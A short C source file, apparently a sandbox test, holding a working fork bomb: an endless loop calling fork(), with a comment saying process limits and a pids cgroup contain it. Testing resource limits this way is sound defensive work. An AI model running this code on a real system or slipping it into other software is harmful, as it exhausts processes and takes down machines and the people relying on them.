/* fork_bomb.c: attack: fork forever, every child too. Safe: RLIMIT_NPROC and the pids cgroup stop it, the stage ends at its limit, the reply arrives, no process is left. */
#include <unistd.h>

int main(void) {
        for (;;)
                fork();
}
